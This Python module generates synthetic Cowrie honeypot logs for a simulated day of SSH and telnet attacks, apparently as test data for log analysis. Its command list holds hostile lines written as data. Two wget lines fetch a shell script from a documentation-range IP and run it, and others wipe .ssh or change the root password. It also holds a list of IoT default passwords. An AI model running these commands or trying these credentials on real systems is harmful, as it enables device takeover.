"""A synthetic day at an SSH and telnet honeypot, as Cowrie writes it: bots that guess, two that get in and look around,
and relays that ask it to connect on to mail and web servers that do not exist.

User names and passwords are those of well-known default lists; targets are names under `.example` (RFC 2606) and
addresses of documentation space (RFC 5737, RFC 3849)."""

import hashlib
import json
import struct
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import numpy as np

from varde.simulate._places import PLACES, source, source_text
from varde.simulate._recording import recorded_terminal

SENSOR, FILE = "pot1", "pot1-cowrie.json"
_PAIRS = (
    ("root", "123456"), ("root", "password"), ("root", "root"), ("admin", "admin"), ("root", "12345678"), ("ubnt", "ubnt"),
    ("root", "xc3511"), ("root", "vizxv"), ("pi", "raspberry"), ("admin", "1234"), ("root", "juantech"), ("user", "user"),
    ("test", "test"), ("oracle", "oracle"), ("support", "support"), ("root", "7ujMko0admin"), ("guest", "guest"), ("git", "git"),
    ("postgres", "postgres"), ("root", "admin"), ("ftpuser", "ftpuser"), ("root", "!@#$%^"), ("minecraft", "minecraft"), ("root", ""),
    ("nagios", "nagios"), ("root", "correct horse battery staple"), ("deploy", "deploy|2026"), ("ubuntu", "ubuntu"),
)  # fmt: skip
"""The most frequent first: ranks are drawn by Zipf's law."""

_NEW_PAIRS = (("root", "varde-demo-2026"), ("onvif", "Admin@2026"), ("root", "zlxx.2026"))
"""What newcomers try."""

_VERSIONS = ("SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-paramiko_2.7.2", "SSH-2.0-PUTTY", "SSH-2.0-libssh-0.6.3")
_COMMANDS = (
    "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "w", "cd /tmp; wget http://198.51.100.77/x.sh; sh x.sh",
    "/bin/busybox MIRAI", "crontab -l", "rm -rf .ssh && mkdir .ssh", "echo root:changed|chpasswd",
)  # fmt: skip
_WEB = ("ipcheck.example", "www.news.example", "login.shop.example", "api.tickets.example", "cdn.video.example")
_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/7.64.1", "python-requests/2.31.0")
_EHLOS = ("mail.bulk.example", "[192.0.2.44]", "win-8gq.example", "localhost")
_LURED = ("root", "xc3511")
"""The pair that the honeypot lets in."""


@dataclass(slots=True)
class _Session:
    """One connection: who, and the events of it that were written so far."""

    begin: datetime
    src: str
    name: str
    service: str
    events: list[tuple[datetime, dict[str, Any]]]
    recording: bytes = b""
    "Its recorded terminal, where it had one."

    def say(self, after: float, eventid: str, message: str, **fields: object) -> None:
        """An event so many seconds after the last one."""
        last = self.events[-1][0] if self.events else self.begin
        moment = last + timedelta(seconds=after)
        base = {"session": self.name, "protocol": self.service, "src_ip": self.src, "src_port": 32768 + _number_of(self.name) % 28000,
                "dst_ip": "203.0.113.9", "dst_port": 22 if self.service == "ssh" else 23}  # fmt: skip
        stamp = moment.astimezone(ZoneInfo("UTC")).isoformat(timespec="microseconds").replace("+00:00", "Z")
        self.events.append((moment, base | fields | {"eventid": f"cowrie.{eventid}", "sensor": SENSOR, "timestamp": stamp, "message": message}))


def _address(country: str, host: int) -> str:
    return source_text(source(country, host), 4)


def _number_of(text: str) -> int:
    return int.from_bytes(hashlib.blake2b(text.encode(), digest_size=4).digest(), "big")


def honeypot_day(
    day: date, *, zone: ZoneInfo, seed: int = 1, sessions: int = 900, relays: int = 24, newcomers: int = 0,
) -> tuple[bytes, int]:  # fmt: skip
    """Cowrie's JSON lines of one local day in order of time, and how many they are. Same arguments, same bytes. `newcomers`:
    sessions of bots that try what no other day's do."""
    found = _sessions(day, zone, seed, sessions, relays, newcomers)
    events = sorted((event for session in found for event in session.events), key=lambda event: event[0])
    lines = [json.dumps(event, ensure_ascii=False, separators=(",", ":")) for _, event in events]
    return ("\n".join(lines) + "\n").encode(), len(lines)


def honeypot_recordings(
    day: date, *, zone: ZoneInfo, seed: int = 1, sessions: int = 900, relays: int = 24, newcomers: int = 0,
) -> dict[str, bytes]:  # fmt: skip
    """The recorded terminals that the lines of the same day name: path below the honeypot's folder, and contents."""
    found = _sessions(day, zone, seed, sessions, relays, newcomers)
    return {_recording_path(session.recording): session.recording for session in found if session.recording}


def _sessions(day: date, zone: ZoneInfo, seed: int, sessions: int, relays: int, newcomers: int) -> list[_Session]:
    rng = np.random.default_rng([seed, day.toordinal(), sessions])
    begin = datetime(day.year, day.month, day.day, tzinfo=zone)
    return [*_guesses(rng, begin, sessions), *_relays(rng, begin, relays), *_newcomers(rng, begin, newcomers)]


def _recording_path(recording: bytes) -> str:
    return f"var/lib/cowrie/tty/{hashlib.sha256(recording).hexdigest()}"


def _opened(rng: np.random.Generator, begin: datetime, src: str, service: str = "ssh") -> _Session:
    moment = begin + timedelta(seconds=float(rng.uniform(0, 84_000)))
    session = _Session(moment, src, rng.bytes(6).hex(), service, [])
    session.say(0, "session.connect", f"New connection: {src}:40000 (203.0.113.9:22) [session: {session.name}]")
    if service == "ssh":
        version = str(rng.choice(_VERSIONS))
        session.say(0.1, "client.version", f"Remote SSH version: {version}", version=version)
        hassh = hashlib.md5(version.encode(), usedforsecurity=False).hexdigest()
        session.say(0.1, "client.kex", f"SSH client hassh fingerprint: {hassh}", hassh=hassh)
    return session


def _closed(session: _Session) -> _Session:
    lasted = int((session.events[-1][0] - session.begin).total_seconds() * 1000) + 400
    session.say(0.4, "session.closed", f"Connection lost after {lasted} milliseconds", duration_ms=lasted)
    return session


def _login(session: _Session, user: str, password: str) -> bool:
    accepted = (user, password) == _LURED
    word = "succeeded" if accepted else "failed"
    session.say(1.2, "login.success" if accepted else "login.failed", f"login attempt [{user}/{password}] {word}", username=user, password=password)
    return accepted


def _guesses(rng: np.random.Generator, begin: datetime, count: int) -> Iterator[_Session]:
    """Bots: few sources make most attempts, and a few passwords are most of what is tried."""
    sources = [_address(PLACES[int(rng.integers(len(PLACES)))].country, int(rng.integers(1, 3840))) for _ in range(max(1, count // 6))]
    weights = 1 / np.arange(1, len(sources) + 1)
    ranks = np.minimum(rng.zipf(1.6, size=(count, 3)) - 1, len(_PAIRS) - 1)
    for number, src in enumerate(rng.choice(sources, size=count, p=weights / weights.sum())):
        session = _opened(rng, begin, str(src), "telnet" if rng.random() < 0.3 else "ssh")
        for rank in ranks[number][: int(rng.integers(1, 4))]:
            if _login(session, *_PAIRS[int(rank)]):
                _look_around(rng, session)
                break
        yield _closed(session)


def _look_around(rng: np.random.Generator, session: _Session) -> None:
    first = int(rng.integers(0, len(_COMMANDS) - 2))
    _type(session, list(_COMMANDS[first : first + int(rng.integers(1, 4))]))


def _type(session: _Session, commands: list[str]) -> None:
    """A shell: its size, what is typed into it, what that brings, and the recording of it."""
    session.say(0.3, "client.size", "Terminal Size: 80 24", width=80, height=24)
    began = session.events[-1][0]
    for command in commands:
        session.say(2.0, "command.input", f"CMD: {command}", input=command)
        if "wget" in command:
            sha = hashlib.sha256(command.encode()).hexdigest()
            url = next(word.rstrip(";") for word in command.split() if word.startswith("http"))
            session.say(1.5, "session.file_download", f"Downloaded URL ({url}) with SHA-256 {sha} to dl/{sha}", url=url, shasum=sha, outfile=f"dl/{sha}")
    session.recording = recorded_terminal(commands, began)
    path = _recording_path(session.recording)
    session.say(1.0, "log.closed", f"Closing TTY Log: {path} after 9 seconds", ttylog=path, size=len(session.recording), shasum=path.rpartition("/")[2], duplicate=False)


def _newcomers(rng: np.random.Generator, begin: datetime, count: int) -> Iterator[_Session]:
    """Bots of one kind that was not there before: its own pairs, its own file, from addresses of three countries."""
    for number in range(count):
        session = _opened(rng, begin, _address(("VN", "BR", "IN")[number % 3], 3000 + number))
        for user, password in _NEW_PAIRS[: 1 + number % len(_NEW_PAIRS)]:
            _login(session, user, password)
        if number % 4 == 0 and _login(session, *_LURED):
            _type(session, ["cd /tmp; wget http://198.51.100.99/bins/new.sh; sh new.sh", "w"])
        yield _closed(session)


def _relays(rng: np.random.Generator, begin: datetime, count: int) -> Iterator[_Session]:
    """Visitors who only want to go on: a few knock on many mail servers, others look at web pages."""
    for number in range(count):
        session = _opened(rng, begin, _address(PLACES[number % len(PLACES)].country, 50 + number))
        _login(session, *_LURED)
        mailer = number % 3 == 0
        for _ in range(int(rng.pareto(1.1) * 6) % 90 + 3):
            _mail(rng, session) if mailer else _web(rng, session)
        yield _closed(session)


def _request(session: _Session, target: str, port: int, data: bytes) -> None:
    about = {"dst_ip": target, "dst_port": port}
    session.say(0.8, "direct-tcpip.request", f"direct-tcp connection request to {target}:{port} from localhost:5556", **about,
                orig_ip="localhost", orig_port=5556)  # fmt: skip
    if data:
        session.say(0.2, "direct-tcpip.data", f"discarded direct-tcp forward request 0 to {target}:{port} with data {data!r}", **about,
                    data=repr(data), id=0)  # fmt: skip


def _mail(rng: np.random.Generator, session: _Session) -> None:
    rank = min(int(rng.zipf(1.4)), 400)
    target = f"mx{rank % 3}.domain{rank}.example"
    _request(session, target, int(rng.choice([25, 25, 25, 587, 465])), f"EHLO {rng.choice(_EHLOS)}\r\n".encode())


def _web(rng: np.random.Generator, session: _Session) -> None:
    host = str(rng.choice(_WEB)) if rng.random() < 0.6 else f"198.51.100.{int(rng.integers(1, 250))}"
    port = int(rng.choice([80, 443, 443, 8080]))
    get = f"GET /item/{int(rng.integers(1, 40))} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {rng.choice(_AGENTS)}\r\nAccept: */*\r\n\r\n".encode()
    _request(session, host, port, _client_hello(host) if port == 443 else get)


_CIPHERS = (0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030)


def _client_hello(host: str) -> bytes:
    """The first octets of TLS 1.2 (RFC 5246 7.4.1.2) with a server name (RFC 6066), where the host is one."""
    name = host.encode()
    server = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
    named = b"" if host[0].isdigit() else struct.pack("!HH", 0, len(server)) + server
    extensions = named + bytes.fromhex("000a00040002001d") + bytes.fromhex("000d000400020403") + bytes.fromhex("002b0003020303")
    suites = b"".join(struct.pack("!H", suite) for suite in _CIPHERS)
    body = b"\x03\x03" + bytes(32) + b"\x00" + struct.pack("!H", len(suites)) + suites + b"\x01\x00" + struct.pack("!H", len(extensions)) + extensions
    hello = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hello)) + hello
